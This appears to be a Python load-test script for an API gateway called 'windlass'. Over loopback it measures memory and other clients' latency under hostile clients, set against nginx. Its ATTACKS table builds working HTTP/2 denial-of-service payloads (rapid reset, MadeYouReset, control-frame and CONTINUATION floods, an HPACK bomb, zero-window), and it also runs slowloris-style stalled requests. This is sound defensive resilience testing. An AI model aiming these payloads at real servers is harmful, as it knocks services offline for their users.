#!/usr/bin/env python3
"""Hostile and idle clients: what they cost the gateway, and what other clients notice.

    attacks.py http2    attacks on HTTP/2, on the gateway and on nginx in turn: memory and others' latency
    attacks.py slow     2,000 heads that do not end and 500 uploads that stall
    attacks.py idle     10,000 idle connections, in clear text and over TLS

The proxy has one core alone; attacker, generator (wrk) and endpoint (nginx) share another. Only loopback is used, only
processes started here are ended, and each part ends within three minutes. Needs nginx, wrk, taskset, and openssl for `idle`.
"""

import argparse
import multiprocessing
import os
import pathlib
import re
import resource
import selectors
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

from run import children, find, free_port, start, stop

HERE = pathlib.Path(__file__).resolve().parent
PROXY_CORE, LOAD_CORE = 0, 1
MIB = 1024 * 1024
LARGE = 8 * MIB

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET = b"\x82\x86\x84\x41\x01a"
POST = b"\x83\x86\x84\x41\x01a"
# The path `/large` as a literal.
GET_LARGE = b"\x82\x86\x04\x06/large\x41\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams(count, frames):
    return b"".join(frames(2 * number + 1) for number in range(count))


def bomb(stream):
    value = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000
    heads = frame(HEADERS, END_STREAM, stream, GET + value)
    return heads + frame(CONTINUATION, 0, stream, b"\xbe" * 16000) * 2 + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16000)


OPEN = frame(SETTINGS, 0, 0)
CLOSED_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
# The bytes of one connection; when they are sent and it is closed, the attacker opens the next.
ATTACKS = {
    "rapid reset": OPEN + streams(5000, lambda id: frame(HEADERS, 5, id, GET) + frame(RST_STREAM, 0, id, b"\0\0\0\x08")),
    "MadeYouReset": OPEN + streams(5000, lambda id: frame(HEADERS, 4, id, POST) + frame(WINDOW_UPDATE, 0, id, b"\x7f\xff\xff\xff")),
    "SETTINGS": OPEN + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 50000,
    "PING": OPEN + frame(PING, 0, 0, b"\0" * 8) * 50000,
    "PRIORITY": OPEN + frame(PRIORITY, 0, 3, b"\0\0\0\0\x01") * 50000,
    "WINDOW_UPDATE": OPEN + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 50000,
    "empty DATA": OPEN + frame(HEADERS, 4, 1, POST) + frame(DATA, 0, 1) * 50000,
    "CONTINUATION": OPEN + frame(HEADERS, 0, 1, POST) + frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 50000,
    "HPACK bomb": OPEN + streams(20, bomb),
    "zero window": CLOSED_WINDOW + streams(100, lambda id: frame(HEADERS, 5, id, GET_LARGE)),
}


def attack(port, name, connections, seconds):
    """Send the attack over so many connections at once, again and again."""
    os.sched_setaffinity(0, {LOAD_CORE})
    whole = PREFACE + ATTACKS[name]
    ready, end, count = selectors.DefaultSelector(), time.monotonic() + seconds, 0

    def connect():
        peer = socket.create_connection(("127.0.0.1", port), timeout=5)
        peer.setblocking(False)
        ready.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])

    for _ in range(connections):
        connect()
    while time.monotonic() < end:
        for key, events in ready.select(0.1):
            peer, sent = key.fileobj, key.data
            try:
                if events & selectors.EVENT_READ and not peer.recv(65536):
                    raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    sent[0] += peer.send(whole[sent[0] : sent[0] + 65536])
                    if sent[0] == len(whole):
                        ready.modify(peer, selectors.EVENT_READ, sent)
            except BlockingIOError:
                pass
            except OSError:
                ready.unregister(peer)
                peer.close()
                count += 1
                connect()
    return count


def rss(pid):
    total = 0
    for process in children(pid):
        status = pathlib.Path(f"/proc/{process}/status").read_text()
        total += int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) * 1024
    return total


class Peak:
    """The most memory of a process while the block runs, above that before it."""

    def __init__(self, pid):
        self.pid, self.over = pid, threading.Event()

    def __enter__(self):
        self.before = self.peak = rss(self.pid)
        self.thread = threading.Thread(target=self.look)
        self.thread.start()
        return self

    def look(self):
        while not self.over.wait(0.05):
            self.peak = max(self.peak, rss(self.pid))

    def __exit__(self, *_):
        self.over.set()
        self.thread.join()

    def more(self):
        return (self.peak - self.before) / MIB


def others(port, seconds):
    """The 99th percentile of other clients' requests in milliseconds, the requests, and the failed ones."""
    command = ["taskset", "-c", str(LOAD_CORE), "wrk", "-t1", "-c4", f"-d{seconds}s", "--latency", f"http://127.0.0.1:{port}/"]
    text = subprocess.run(command, check=True, capture_output=True, text=True, timeout=seconds + 60).stdout
    value, unit = re.search(r"99%\s+([\d.]+)(us|ms|s|m)\b", text).groups()
    failed = sum(map(int, re.findall(r"(?:connect|read|write|timeout) (\d+)", text)))
    failed += sum(map(int, re.findall(r"Non-2xx or 3xx responses: (\d+)", text)))
    scale = {"us": 0.001, "ms": 1, "s": 1000, "m": 60000}[unit]
    return float(value) * scale, int(re.search(r"(\d+) requests in", text).group(1)), failed


NGINX = """
daemon off;
pid {folder}/{name}.pid;
error_log {folder}/{name}.log crit;
worker_processes 1;
events {{ worker_connections 16384; }}
http {{
    access_log off;
    client_body_temp_path {folder}/{name}-1; proxy_temp_path {folder}/{name}-2; fastcgi_temp_path {folder}/{name}-3;
    uwsgi_temp_path {folder}/{name}-4; scgi_temp_path {folder}/{name}-5;
    keepalive_requests 1000000000;
    {content}
}}
"""
BACKEND = """
    server {{
        listen 127.0.0.1:{backend} backlog=4096;
        root {folder};
        location = /large {{ sendfile on; }}
        # Reads the whole body before it answers.
        location = /upload {{ proxy_pass http://127.0.0.1:{backend}/; }}
        location / {{ return 200 "ok\\n"; }}
    }}
"""
PROXY = """
    upstream backend {{ server 127.0.0.1:{backend}; keepalive 128; }}
    server {{
        listen 127.0.0.1:{nginx_h2} http2;
        listen 127.0.0.1:{nginx};
        location / {{ proxy_pass http://backend; proxy_http_version 1.1; proxy_set_header Connection ""; }}
    }}
"""
WINDLASS = """
[server]
workers = 1
[[listener]]
address = "127.0.0.1:{windlass}"
max_connections = 20000
[[listener]]
address = "127.0.0.1:{windlass_h2}"
{tls}
[log]
level = "error"
[[route]]
path = "$default"
upstream = "backend"
[upstream.backend]
endpoints = [{{ address = "127.0.0.1:{backend}" }}]
"""
TLS = 'max_connections = 20000\ntls = { certificate = "api.pem", key = "api.key" }'


class Setup:
    """The endpoint, the gateway, and nginx where it is asked for."""

    def __init__(self, chosen, folder, log, with_nginx=False, tls=""):
        names = ("backend", "windlass", "windlass_h2", "nginx", "nginx_h2")
        self.ports = {name: free_port() for name in names}
        words = {**self.ports, "folder": folder}
        (folder / "large").write_bytes(b"\0" * LARGE)
        self.running = []
        try:
            self.nginx(folder, log, words, "backend", BACKEND, LOAD_CORE)
            (folder / "windlass.toml").write_text(WINDLASS.format(tls=tls, **words))
            command = [chosen.windlass, "run", "--config", str(folder / "windlass.toml")]
            self.gateway = self.start(PROXY_CORE, command, "windlass", log)
            if with_nginx:
                self.peer = self.nginx(folder, log, words, "nginx", PROXY, PROXY_CORE)
        except BaseException:
            stop(self.running)
            raise

    def nginx(self, folder, log, words, name, content, core):
        path = folder / f"{name}.conf"
        path.write_text(NGINX.format(name=name, folder=folder, content=content.format(**words)))
        command = [find("nginx"), "-p", str(folder), "-e", f"{folder}/start.log", "-c", str(path)]
        return self.start(core, command, name, log)

    def start(self, core, command, name, log):
        process = start(core, command, self.ports[name], log)
        self.running.append(process)
        return process


def http2(chosen, folder, log):
    setup, worst = Setup(chosen, folder, log, with_nginx=True), []
    try:
        proxies = (("windlass", setup.gateway), ("nginx", setup.peer))
        row = "{:14} {:>14} {:>14} {:>14} {:>14}".format
        print(row("attack", "windlass MiB", "nginx MiB", "windlass p99", "nginx p99"))
        quiet = [others(setup.ports[name], 2) for name, _ in proxies]
        print(row("(none)", "", "", *(f"{p99:.2f} ms" for p99, _, _ in quiet)), flush=True)
        for name in ATTACKS:
            memory, latency = [], []
            for proxy, process in proxies:
                with multiprocessing.Pool(1) as pool, Peak(process.pid) as peak:
                    work = pool.apply_async(attack, (setup.ports[f"{proxy}_h2"], name, 8, chosen.seconds))
                    p99, _, failed = others(setup.ports[proxy], chosen.seconds)
                    work.get(60)
                memory.append(peak.more())
                latency.append(p99)
                if failed:
                    worst.append(f"{name}: {failed} requests of others failed at {proxy}")
            print(row(name, *(f"{more:.1f}" for more in memory), *(f"{p99:.2f} ms" for p99 in latency)), flush=True)
            if memory[0] >= 100:
                worst.append(f"{name}: {memory[0]:.0f} MiB above idle")
            if latency[0] > latency[1]:
                worst.append(f"{name}: p99 {latency[0]:.2f} ms, and {latency[1]:.2f} ms at nginx")
    finally:
        stop(setup.running)
    return worst


def slow(chosen, folder, log):
    setup, worst = Setup(chosen, folder, log), []
    port = setup.ports["windlass"]
    try:
        quiet = others(port, 2)
        began, open_ = time.monotonic(), {}
        ready = selectors.DefaultSelector()
        head, upload = b"GET / HTTP/1.1\r\nhost: a\r\nx-slow: ", b"POST /upload HTTP/1.1\r\nhost: a\r\ncontent-length: 99\r\n\r\nhalf"
        with Peak(setup.gateway.pid) as peak:
            for kind, count, text in (("heads", 2000, head), ("uploads", 500, upload)):
                for _ in range(count):
                    peer = socket.create_connection(("127.0.0.1", port), timeout=10)
                    peer.sendall(text)
                    ready.register(peer, selectors.EVENT_READ, kind)
                open_[kind] = count
            with multiprocessing.Pool(1) as pool:
                work = pool.apply_async(others, (port, 40))
                ended, answers = {}, {}
                while any(open_.values()) and time.monotonic() < began + 60:
                    for key, _ in ready.select(0.5):
                        text = key.fileobj.recv(4096)
                        answers[text[9:12]] = answers.get(text[9:12], 0) + 1
                        ready.unregister(key.fileobj)
                        key.fileobj.close()
                        open_[key.data] -= 1
                        ended[key.data] = time.monotonic() - began
                p99, requests, failed = work.get(90)
        for kind, seconds in ended.items():
            print(f"{kind}: all shed within {seconds:.1f} s")
        print(f"answers: {answers}; memory above idle: {peak.more():.1f} MiB")
        print(f"others: p99 {p99:.2f} ms (alone {quiet[0]:.2f} ms), {requests} requests, {failed} failed")
        if any(open_.values()):
            worst.append(f"still open: {open_}")
        if failed:
            worst.append(f"{failed} requests of others failed")
        if answers != {b"408": 2500}:
            worst.append(f"{answers}: not all are 408")
    finally:
        stop(setup.running)
    return worst


def idle(chosen, folder, log):
    subject = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"]
    subprocess.run([*subject, "-keyout", folder / "api.key", "-out", folder / "api.pem"], check=True, capture_output=True)
    worst = []
    for kind, port, most in (("clear text", "windlass", 24), ("TLS", "windlass_h2", 34)):
        context = ssl.create_default_context(cafile=folder / "api.pem")
        context.set_alpn_protocols(["http/1.1"])
        # A gateway of its own: freed memory of the other part would be used again.
        setup = Setup(chosen, folder, log, tls=TLS)

        def connect():
            peer = socket.create_connection(("127.0.0.1", setup.ports[port]), timeout=10)
            if kind == "TLS":
                peer = context.wrap_socket(peer, server_hostname="localhost")
            peer.sendall(b"GET / HTTP/1.1\r\nhost: a\r\n\r\n")
            peer.recv(4096)
            return peer

        try:
            # The first ones warm up what all share.
            warm = [connect() for _ in range(100)]
            before = rss(setup.gateway.pid)
            peers = [connect() for _ in range(chosen.idle)]
            each = (rss(setup.gateway.pid) - before) / chosen.idle / 1024
        finally:
            stop(setup.running)
        print(f"{kind}: {each:.1f} KiB for each of {chosen.idle} idle connections", flush=True)
        if each > most:
            worst.append(f"{kind}: {each:.1f} KiB, and {most} were allowed")
        for peer in warm + peers:
            peer.close()
    return worst


def main():
    target = HERE.parents[2] / "target" / "release" / "windlass"
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("part", choices=["http2", "slow", "idle"])
    parser.add_argument("windlass", nargs="?", default=str(target), help="the binary (default: target/release/windlass)")
    parser.add_argument("--seconds", type=int, default=4, help="length of one attack (default 4, at most 6)")
    parser.add_argument("--idle", type=int, default=10_000, help="idle connections (default 10000)")
    chosen = parser.parse_args()
    if not 1 <= chosen.seconds <= 6 or not 1 <= chosen.idle <= 14_000:
        parser.error("1 to 6 seconds, and 1 to 14000 connections")
    chosen.windlass = str(pathlib.Path(chosen.windlass).resolve())
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    folder = pathlib.Path(tempfile.mkdtemp(prefix="windlass-attacks-"))
    folder.chmod(0o755)
    with open(folder / "output.log", "w") as log:
        worst = {"http2": http2, "slow": slow, "idle": idle}[chosen.part](chosen, folder, log)
    shutil.rmtree(folder, ignore_errors=True)
    print("\n".join(worst) or "all bounds are kept")
    sys.exit(1 if worst else 0)


if __name__ == "__main__":
    main()
